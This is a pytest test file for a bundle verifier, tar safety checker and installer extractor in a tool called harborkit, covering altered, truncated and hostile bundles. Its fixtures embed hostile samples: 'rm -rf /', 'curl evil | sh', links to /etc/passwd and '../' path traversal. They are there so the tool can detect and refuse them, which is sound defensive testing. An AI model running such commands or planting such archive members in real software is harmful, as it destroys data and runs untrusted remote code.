"""verify, tarsafe and format on bundles written here by hand (no daemon):
every way a bundle can be altered, each with its exit code and its one line."""

from __future__ import annotations

import io
import json
import os
import subprocess
import tarfile
from pathlib import Path

import pytest

from harborkit.bundle.errors import BundleCorrupt, BundleHostile, BundleUnreadable, MetadataError
from harborkit.bundle.extract import check_install_target, extract_installer
from harborkit.bundle.format import (
    METADATA_NAME,
    SUMS_NAME,
    blob_member,
    blob_path_in_images,
    format_sums,
    installer_member,
    metadata_from_json,
    metadata_to_json,
    parse_sums,
)
from harborkit.bundle.tarsafe import check_installer, scan_tar, unsafe_name_reason
from harborkit.bundle.verify import verify_bundle
from harborkit.errors import ExitCode
from tests.support.bundles import (
    INSTALLER,
    INSTALLER_FILES,
    MANIFEST,
    Crafted,
    craft_bundle,
    crafted_images,
    make_parts,
    tgz,
)
from tests.support.cli import run_harborkit, run_listing_modules
from tests.support.images import make_image, make_layer


def hk(*args: str) -> subprocess.CompletedProcess[str]:
    return run_harborkit(args, env={**os.environ, "NO_COLOR": "1"}, timeout=120)


def refused(path: Path, code: int, message: str) -> None:
    """``bundle verify`` exits ``code`` with exactly ``harborkit: error: message``."""
    r = hk("bundle", "verify", "-q", str(path))
    assert (r.returncode, r.stdout, r.stderr) == (code, "", f"harborkit: error: {message}\n")


# --- intact --------------------------------------------------------------------------


def test_intact_bundle_verifies(tmp_path: Path) -> None:
    parts = make_parts()
    path = parts.write(tmp_path / "b.tar")
    res = verify_bundle(path)
    assert [i.reference for i in res.metadata.images] == [
        "goharbor/harbor-core:v1.8.0",
        "goharbor/harbor-db:v1.8.0",
    ]
    assert set(res.members) == {n for n, _ in parts.members} | {SUMS_NAME}
    assert res.bytes_hashed == sum(len(d) for _, d in parts.members)
    assert len(res.metadata.layers) == 3
    r = hk("bundle", "verify", str(path))
    assert (r.returncode, r.stderr) == (ExitCode.OK, "")
    assert r.stdout.startswith(f"{path}: OK ({len(parts.members) + 1} members, ")
    assert r.stdout.endswith(", 2 images, not signed)\n")


def test_verify_loads_no_daemon_client_nor_yaml(tmp_path: Path) -> None:
    """verify reads a file: the Docker SDK, our daemon client (and through it the
    logging of its watch), requests and PyYAML cost its start-up and serve nothing."""
    path = make_parts().write(tmp_path / "b.tar")
    never = {"docker", "harborkit.dockerapi", "requests", "pydantic", "yaml"}
    r, code, loaded = run_listing_modules(("bundle", "verify", "-q", str(path)), never)
    assert (code, loaded, r.stderr) == (ExitCode.OK, [], "")


# --- altered members with a stale SHA256SUMS -----------------------------------------


def test_changed_images_manifest_with_stale_sums(tmp_path: Path) -> None:
    good = make_parts()
    bad = make_parts()
    bad.put(MANIFEST, bad.get(MANIFEST).replace(b"harbor-db", b"harbor-XX"))
    path = bad.write(tmp_path / "b.tar", sums_from=good)
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(path)
    assert e.value.message == f"bundle {path} is corrupt: altered member {MANIFEST}"
    refused(path, ExitCode.BUNDLE_CORRUPT, f"bundle {path} is corrupt: altered member {MANIFEST}")


def test_changed_installer_with_stale_sums(tmp_path: Path) -> None:
    good = make_parts()
    bad = make_parts(tgz([*INSTALLER_FILES, ("harbor/evil.sh", b"rm -rf /\n", 0o755)]))
    bad.put(METADATA_NAME, good.get(METADATA_NAME))  # only the installer changed
    path = bad.write(tmp_path / "b.tar", sums_from=good)
    inst = installer_member(INSTALLER)
    refused(path, ExitCode.BUNDLE_CORRUPT, f"bundle {path} is corrupt: altered member {inst}")


def test_metadata_installer_sha256_changed_with_sums_recomputed(tmp_path: Path) -> None:
    parts = make_parts()
    parts.edit_metadata(lambda m: m["installer"].update(sha256="0" * 64))
    path = parts.write(tmp_path / "b.tar")
    inst = installer_member(INSTALLER)
    refused(
        path,
        ExitCode.BUNDLE_CORRUPT,
        f"bundle {path} is inconsistent with {METADATA_NAME}: "
        f"installer {inst} sha256 differs from the metadata",
    )


def test_metadata_inconsistencies_are_each_named(tmp_path: Path) -> None:
    parts = make_parts()
    meta = json.loads(parts.get(METADATA_NAME))
    layer = meta["layers"][0]
    ghost = "sha256:" + "ab" * 32
    parts.edit_metadata(
        lambda m: (
            m["layers"][0].update(size=layer["size"] + 1),
            m["layers"].append({**layer, "digest": ghost}),
            m["images"][0]["layers"].append("sha256:" + "cd" * 32),
            m["images"][1].update(image_id="sha256:" + "ef" * 32),
        )
    )
    path = parts.write(tmp_path / "b.tar")
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(path)
    assert e.value.message == (
        f"bundle {path} is inconsistent with {METADATA_NAME}: "
        f"layer {layer['digest']} has {layer['size']} bytes, metadata says {layer['size'] + 1}; "
        f"layer {ghost} is not in the bundle; "
        f"goharbor/harbor-core:v1.8.0 uses unknown layer sha256:{'cd' * 32}; "
        f"config of goharbor/harbor-db:v1.8.0 (sha256:{'ef' * 32}) is not in the bundle"
    )
    assert e.value.exit_code == ExitCode.BUNDLE_CORRUPT


def test_installer_named_by_metadata_is_missing(tmp_path: Path) -> None:
    parts = make_parts()
    parts.edit_metadata(lambda m: m["installer"].update(name="other.tgz"))
    path = parts.write(tmp_path / "b.tar")
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(path)
    assert e.value.message == (
        f"bundle {path} is inconsistent with {METADATA_NAME}: "
        "installer installer/other.tgz is not in the bundle"
    )


def test_missing_extra_and_misnamed_members(tmp_path: Path) -> None:
    good = make_parts()
    parts = make_parts()
    first_blob = next(n for n, _ in parts.members if n.startswith("images/blobs/"))
    parts.members = [(n, d) for n, d in parts.members if n != first_blob]
    parts.members.append(("images/blobs/sha256/" + "0" * 64, b"x"))
    parts.members.append(("notes.txt", b"hello"))
    path = parts.write(tmp_path / "b.tar", sums_from=good)
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(path)
    assert e.value.message == (
        f"bundle {path} is corrupt: altered member images/blobs/sha256/{'0' * 64}; "
        f"missing member {first_blob}; "
        f"extra member images/blobs/sha256/{'0' * 64}, notes.txt"
    )


def test_blob_whose_bytes_do_not_match_its_name(tmp_path: Path) -> None:
    parts = make_parts()
    first_blob = next(n for n, _ in parts.members if n.startswith("images/blobs/"))
    parts.put(first_blob, b"not the layer")
    path = parts.write(tmp_path / "b.tar")  # SHA256SUMS agrees with the new bytes
    refused(path, ExitCode.BUNDLE_CORRUPT, f"bundle {path} is corrupt: altered member {first_blob}")


def test_many_altered_members_are_named_six_then_counted(tmp_path: Path) -> None:
    good = make_parts()
    parts = make_parts()
    parts.members += [(f"x{i}", b"") for i in range(8)]
    path = parts.write(tmp_path / "b.tar", sums_from=good)
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(path)
    assert e.value.message == (
        f"bundle {path} is corrupt: extra member x0, x1, x2, x3, x4, x5 and 2 more"
    )


# --- SHA256SUMS and the file itself ----------------------------------------------------


def test_sums_problems(tmp_path: Path) -> None:
    parts = make_parts()
    parts.sums = b"not a sums line\n"
    path = parts.write(tmp_path / "a.tar")
    refused(
        path,
        ExitCode.BUNDLE_CORRUPT,
        f"bundle {path} is corrupt: {SUMS_NAME} line 1 is not '<sha256>  <name>'",
    )
    parts.sums = format_sums([("a", "0" * 64), ("a", "1" * 64)])
    path = parts.write(tmp_path / "b.tar")
    refused(
        path, ExitCode.BUNDLE_CORRUPT, f"bundle {path} is corrupt: {SUMS_NAME} line 2 repeats a"
    )


def test_no_sums_member_and_cut_files(tmp_path: Path) -> None:
    parts = make_parts()
    path = tmp_path / "nosums.tar"
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in parts.members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    refused(path, ExitCode.BUNDLE_CORRUPT, f"bundle {path} is corrupt: missing member {SUMS_NAME}")

    whole = parts.write(tmp_path / "whole.tar").read_bytes()
    inst_len = len(parts.members[0][1])
    cut = tmp_path / "cut.tar"
    cut.write_bytes(whole[: 512 + inst_len // 2])
    refused(
        cut,
        ExitCode.BUNDLE_CORRUPT,
        f"bundle {cut} is corrupt: truncated member {installer_member(INSTALLER)}",
    )


def test_not_a_file_and_not_a_tar(tmp_path: Path) -> None:
    refused(
        tmp_path / "nope.tar",
        ExitCode.USAGE,
        f"bundle {tmp_path / 'nope.tar'} does not exist or is not a file",
    )
    with pytest.raises(BundleUnreadable):
        verify_bundle(tmp_path)
    junk = tmp_path / "junk.tar"
    junk.write_bytes(b"\x01" * 2048)
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(junk)
    assert e.value.message.startswith(f"{junk} is not a tar archive: ")
    assert e.value.exit_code == ExitCode.BUNDLE_CORRUPT


def test_metadata_that_is_not_json_or_fails_its_schema(tmp_path: Path) -> None:
    parts = make_parts()
    parts.put(METADATA_NAME, b"{not json")
    path = parts.write(tmp_path / "a.tar")
    r = hk("bundle", "verify", "-q", str(path))
    assert r.returncode == ExitCode.USAGE
    assert r.stderr.startswith(f"harborkit: error: {path}: {METADATA_NAME} is not valid JSON: ")
    assert r.stderr.count("\n") == 1
    parts = make_parts()
    parts.edit_metadata(lambda m: m.update(format_version=2))
    path = parts.write(tmp_path / "b.tar")
    with pytest.raises(MetadataError) as e:
        verify_bundle(path)
    assert (
        e.value.message
        == f"{path}: {METADATA_NAME} fails its schema at format_version: 1 was expected"
    )
    assert e.value.exit_code == ExitCode.USAGE


# --- hostile members ------------------------------------------------------------------


def test_installer_with_a_repeated_member_is_hostile(tmp_path: Path) -> None:
    inst = tgz([*INSTALLER_FILES, ("harbor/install.sh", b"#!/bin/sh\ncurl evil | sh\n", 0o755)])
    parts = make_parts(inst)
    path = parts.write(tmp_path / "b.tar")  # checksums and metadata agree: only tarsafe can tell
    member = installer_member(INSTALLER)
    refused(
        path, ExitCode.BUNDLE_HOSTILE, f"{path}: {member}: duplicate member 'harbor/install.sh'"
    )
    # ./harbor/install.sh is the same path as harbor/install.sh
    inst = tgz([*INSTALLER_FILES, ("./harbor/prepare", b"x", 0o755)])
    with pytest.raises(BundleHostile) as e:
        check_installer(io.BytesIO(inst), "inst.tgz")  # type: ignore[arg-type]
    assert e.value.message == "inst.tgz: duplicate member './harbor/prepare'"


def test_repeated_directory_in_installer_is_fine() -> None:
    inst = tgz(INSTALLER_FILES, dirs=("harbor", "harbor/"))
    names = [ti.name for ti in check_installer(io.BytesIO(inst), "i.tgz").members]  # type: ignore[arg-type]
    assert names[:2] == ["harbor", "harbor"]


def test_installer_that_is_not_an_archive(tmp_path: Path) -> None:
    parts = make_parts(b"plain text, not gzip")
    path = parts.write(tmp_path / "b.tar")
    r = hk("bundle", "verify", "-q", str(path))
    assert r.returncode == ExitCode.BUNDLE_CORRUPT
    assert r.stderr.startswith(
        f"harborkit: error: {path}: {installer_member(INSTALLER)} is not a complete gzip stream: "
    )


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        (tarfile.SYMTYPE, "is a symlink"),
        (tarfile.LNKTYPE, "is a hard link"),
        (tarfile.CHRTYPE, "is a character device"),
        (tarfile.BLKTYPE, "is a block device"),
        (tarfile.FIFOTYPE, "is a fifo"),
    ],
)
def test_outer_member_of_unsafe_type(tmp_path: Path, kind: bytes, reason: str) -> None:
    path = tmp_path / "b.tar"
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tf:
        ti = tarfile.TarInfo("images/x")
        ti.type, ti.linkname = kind, "/etc/passwd"
        tf.addfile(ti)
    with pytest.raises(BundleHostile) as e:
        scan_tar(path)
    assert e.value.message == f"{path}: unsafe member 'images/x': {reason}"
    assert e.value.exit_code == ExitCode.BUNDLE_HOSTILE


def test_outer_duplicate_and_bad_names(tmp_path: Path) -> None:
    parts = make_parts()
    parts.members.append((MANIFEST, b"[]"))
    path = parts.write(tmp_path / "b.tar")
    refused(path, ExitCode.BUNDLE_HOSTILE, f"{path}: duplicate member '{MANIFEST}'")
    assert unsafe_name_reason("") == "empty or NUL in name"
    assert unsafe_name_reason("a\x00b") == "empty or NUL in name"
    assert unsafe_name_reason("/etc/passwd") == "absolute path"
    assert unsafe_name_reason("a/../../b") == "'..' in path"
    assert unsafe_name_reason("a/..b/c") is None
    assert unsafe_name_reason("./a") is None


# --- unpacking the installer -------------------------------------------------------------


def test_extract_keeps_modes_without_setuid_and_never_overwrites(tmp_path: Path) -> None:
    inst = tgz(INSTALLER_FILES)
    dest = tmp_path / "opt"
    tops = extract_installer(io.BytesIO(inst), dest, "inst.tgz")  # type: ignore[arg-type]
    assert tops == [dest.resolve() / "harbor"]
    assert (dest / "harbor/install.sh").read_bytes() == INSTALLER_FILES[0][1]
    assert (dest / "harbor/install.sh").stat().st_mode & 0o7777 == 0o755  # setuid dropped
    assert (dest / "harbor/harbor.yml").stat().st_mode & 0o777 == 0o644
    assert (dest / "harbor").stat().st_mode & 0o777 == 0o755
    with pytest.raises(Exception) as e:
        extract_installer(io.BytesIO(inst), dest, "inst.tgz")  # type: ignore[arg-type]
    assert (
        str(e.value)
        == f"{(dest / 'harbor/install.sh').resolve()} already exists; not overwriting it"
    )
    assert getattr(e.value, "exit_code", None) == ExitCode.USAGE


def test_install_target_escape_is_hostile(tmp_path: Path) -> None:
    ti = tarfile.TarInfo("harbor/link/x")
    ti.size = 1
    (tmp_path / "dest/harbor").mkdir(parents=True)
    (tmp_path / "dest/harbor/link").symlink_to(tmp_path)
    with pytest.raises(BundleHostile) as e:
        check_install_target([ti], tmp_path / "dest", "inst.tgz")
    assert e.value.message == f"inst.tgz: member 'harbor/link/x' escapes {tmp_path / 'dest'}"


# --- format ------------------------------------------------------------------------------


def test_sums_format_round_trip_and_star_form() -> None:
    text = format_sums([("a", "0" * 64), ("b c", "f" * 64)])
    assert text == f"{'0' * 64}  a\n{'f' * 64}  b c\n".encode()
    assert parse_sums(text + b"\n") == {"a": "0" * 64, "b c": "f" * 64}
    assert parse_sums(f"{'1' * 64} *bin\n".encode()) == {"bin": "1" * 64}
    for bad, line in (
        (b"xyz  a\n", 1),
        (f"{'A' * 64}  a\n".encode(), 1),
        (f"\n{'0' * 63}  a\n".encode(), 2),
    ):
        with pytest.raises(ValueError, match=f"^line {line} is not '<sha256>  <name>'$"):
            parse_sums(bad)


def test_metadata_round_trip_and_shared_layers() -> None:
    parts = make_parts()
    meta = metadata_from_json(parts.get(METADATA_NAME))
    assert metadata_to_json(meta) == parts.get(METADATA_NAME)
    (base,) = [d for d, refs in meta.shared_layers().items()]
    assert meta.shared_layers() == {
        base: ["goharbor/harbor-core:v1.8.0", "goharbor/harbor-db:v1.8.0"]
    }
    assert meta.layer(base).digest == base
    with pytest.raises(KeyError):
        meta.layer("sha256:" + "9" * 64)
    assert blob_member("sha256:abc") == "images/blobs/sha256/abc"
    assert blob_path_in_images("sha256:abc") == "blobs/sha256/abc"
    assert installer_member("x.tgz") == "installer/x.tgz"


def test_extract_handles_dot_entries_missing_and_late_folders(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:

        def add(name: str, data: bytes | None, mode: int) -> None:
            ti = tarfile.TarInfo(name)
            ti.mode = mode
            if data is None:
                ti.type = tarfile.DIRTYPE
                tf.addfile(ti)
            else:
                ti.size = len(data)
                tf.addfile(ti, io.BytesIO(data))

        add("./", None, 0o755)
        add("./harbor/common/config/nginx.conf", b"events {}\n", 0o640)  # no folder entries
        add("./harbor/install.sh", b"#!/bin/sh\n", 0o755)
        add("./harbor/common", None, 0o500)  # the folder entry after its files
        add("extra.txt", b"x", 0o600)
    dest = tmp_path / "a" / "b" / "opt"  # parents do not exist yet
    tops = extract_installer(io.BytesIO(buf.getvalue()), dest, "inst.tgz")  # type: ignore[arg-type]
    root = dest.resolve()
    assert tops == ([root / "harbor", root / "extra.txt"])
    assert (dest / "harbor/common/config/nginx.conf").read_bytes() == b"events {}\n"
    assert (dest / "harbor/common/config/nginx.conf").stat().st_mode & 0o777 == 0o640
    assert (dest / "harbor/common").stat().st_mode & 0o777 == 0o700  # owner keeps access
    assert (dest / "extra.txt").read_bytes() == b"x"


def test_extract_refuses_a_hostile_member_naming_the_archive(tmp_path: Path) -> None:
    inst = tgz([("harbor/../../evil", b"x", 0o644)])
    with pytest.raises(BundleHostile) as e:
        extract_installer(io.BytesIO(inst), tmp_path / "opt", "bundle.tar: installer/x.tgz")  # type: ignore[arg-type]
    assert e.value.message == (
        "bundle.tar: installer/x.tgz: unsafe member 'harbor/../../evil': '..' in path"
    )
    assert not (tmp_path / "opt").exists()


# --- load: what can be judged before a daemon answers ---------------------------------


def test_load_stream_is_a_docker_load_tar_of_the_needed_images(tmp_path: Path) -> None:
    from harborkit.bundle.load import _tar_stream
    from harborkit.bundle.progress import NullProgress
    from harborkit.dockerapi import repo_and_tag

    parts = make_parts()
    path = parts.write(tmp_path / "b.tar")
    res = verify_bundle(path)
    entries = json.loads(parts.get(MANIFEST))[1:]  # harbor-db only
    task = NullProgress().task("load", None)
    data = b"".join(_tar_stream(path, dict(res.members), entries, task))
    assert len(data) % 512 == 0 and data.endswith(bytes(1024))
    with tarfile.open(fileobj=io.BytesIO(data)) as tf:
        got = {ti.name: tf.extractfile(ti).read() for ti in tf}  # type: ignore[union-attr]
    want = [entries[0]["Config"], *entries[0]["Layers"], "manifest.json"]
    assert list(got) == want
    for name in want[:-1]:
        assert got[name] == parts.get(f"images/{name}")
    assert json.loads(got["manifest.json"]) == entries
    assert repo_and_tag("goharbor/harbor-db:v1.8.0") == ("goharbor/harbor-db", "v1.8.0")
    assert repo_and_tag("127.0.0.1:5000/hk/db") == ("127.0.0.1:5000/hk/db", "latest")
    assert repo_and_tag("busybox") == ("busybox", "latest")


def test_load_without_a_daemon_loads_and_unpacks_nothing(tmp_path: Path) -> None:
    path = make_parts().write(tmp_path / "b.tar")
    install = tmp_path / "opt"
    env = {**os.environ, "DOCKER_HOST": f"unix://{tmp_path}/none.sock"}
    r = run_harborkit(["bundle", "load", str(path), "--install-dir", str(install)], env=env)
    assert r.returncode == ExitCode.ENVIRONMENT
    assert r.stderr.startswith(
        f"harborkit: error: cannot reach the Docker daemon at unix://{tmp_path}/none.sock: "
    )
    assert r.stderr.count("\n") == 1
    assert not install.exists()


def test_load_refuses_an_existing_installer_file_before_the_daemon(tmp_path: Path) -> None:
    path = make_parts().write(tmp_path / "b.tar")
    install = tmp_path / "opt"
    (install / "harbor").mkdir(parents=True)
    (install / "harbor/prepare").write_text("mine\n")
    env = {**os.environ, "DOCKER_HOST": f"unix://{tmp_path}/none.sock"}
    r = run_harborkit(["bundle", "load", str(path), "--install-dir", str(install)], env=env)
    assert (r.returncode, r.stderr) == (
        ExitCode.USAGE,
        f"harborkit: error: {(install / 'harbor/prepare').resolve()} already exists; "
        f"not overwriting it: the installer was unpacked into {install.resolve()} before; "
        f"to load only the images (and tools), run harborkit bundle load {path} "
        "without --install-dir\n",
    )
    assert (install / "harbor/prepare").read_text() == "mine\n"


# --- one pass, all cores: every member is hashed whole -------------------------------


@pytest.fixture(scope="module")
def big_member_bundle(tmp_path_factory: pytest.TempPathFactory) -> Crafted:
    """A bundle whose largest layer spans several of verify's read buffers."""
    from harborkit.bundle import verify as verify_mod

    big = make_layer([("big.bin", os.urandom(2 * verify_mod.READ_SIZE + 12345), 0o644)])
    images = crafted_images()
    images[0] = make_image(list(images[0].tags), [*images[0].layers, big])
    return craft_bundle(tmp_path_factory.mktemp("big") / "big.tar", images=images)


def _flip(src: Path, dst: Path, at: int) -> None:
    raw = bytearray(src.read_bytes())
    raw[at] ^= 0x01
    dst.write_bytes(bytes(raw))


def test_a_flipped_byte_anywhere_in_any_member_is_named(
    big_member_bundle: Crafted, tmp_path: Path
) -> None:
    """Each member but SHA256SUMS (which names the others), flipped at its first, middle
    and last byte and, in a member larger than a read buffer, on both sides of each
    buffer's end: verify names exactly that member (the documents, checked while the
    members are hashed, never speak first)."""
    from harborkit.bundle import verify as verify_mod

    good = big_member_bundle.path
    assert verify_bundle(good).metadata.harbor_version == "v1.8.0"
    step = verify_mod.READ_SIZE
    with tarfile.open(good) as tf:
        infos = [ti for ti in tf if ti.isreg() and ti.name != SUMS_NAME]
    assert max(ti.size for ti in infos) > 2 * step
    assert len(infos) == len(big_member_bundle.members) == 11
    bad = tmp_path / "bad.tar"
    for ti in infos:
        spots = {0, ti.size // 2, ti.size - 1}
        spots |= {k * step + d for k in (1, 2) for d in (-1, 0) if k * step + d < ti.size}
        for spot in sorted(spots):
            _flip(good, bad, ti.offset_data + spot)
            with pytest.raises(BundleCorrupt) as e:
                verify_bundle(bad)
            assert e.value.message == f"bundle {bad} is corrupt: altered member {ti.name}", (
                ti.name,
                spot,
            )


def test_a_flipped_byte_in_a_large_member_fails_the_cli(
    big_member_bundle: Crafted, tmp_path: Path
) -> None:
    good = big_member_bundle.path
    with tarfile.open(good) as tf:
        victim = max((ti for ti in tf if ti.isreg()), key=lambda ti: ti.size)
    bad = tmp_path / "bad.tar"
    _flip(good, bad, victim.offset_data + victim.size - 1)
    refused(bad, ExitCode.BUNDLE_CORRUPT, f"bundle {bad} is corrupt: altered member {victim.name}")
    r = hk("bundle", "verify", "-q", str(good))
    assert (r.returncode, r.stderr) == (ExitCode.OK, "")


@pytest.mark.parametrize("name", [METADATA_NAME, MANIFEST])
def test_a_document_rewritten_after_it_was_checked_is_named_by_the_hash(
    big_member_bundle: Crafted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """The documents are checked while the members are hashed: a document rewritten in
    place (same size) after its check and before its hash is still refused, as an
    altered member (the other order is in test_hostile_bundles)."""
    import threading

    from harborkit.bundle import verify as verify_mod

    b = tmp_path / "b.tar"
    b.write_bytes(big_member_bundle.path.read_bytes())
    data = big_member_bundle.member(name)
    evil = data[:-1] + (b" " if data[-1:] != b" " else b"\n")
    with tarfile.open(b) as tf:
        at = tf.getmember(name).offset_data
    checked = threading.Event()
    real_documents, real_hash = verify_mod._check_documents, verify_mod._hash_member

    def documents_then_rewrite(*args: object) -> object:
        try:
            return real_documents(*args)  # type: ignore[arg-type]
        finally:
            with open(b, "r+b") as f:
                f.seek(at)
                f.write(evil)
            checked.set()

    def hash_after(*args: object) -> str:
        assert checked.wait(60)
        return real_hash(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(verify_mod, "_check_documents", documents_then_rewrite)
    monkeypatch.setattr(verify_mod, "_hash_member", hash_after)
    with pytest.raises(BundleCorrupt) as e:
        verify_bundle(b)
    assert e.value.message == f"bundle {b} is corrupt: altered member {name}"
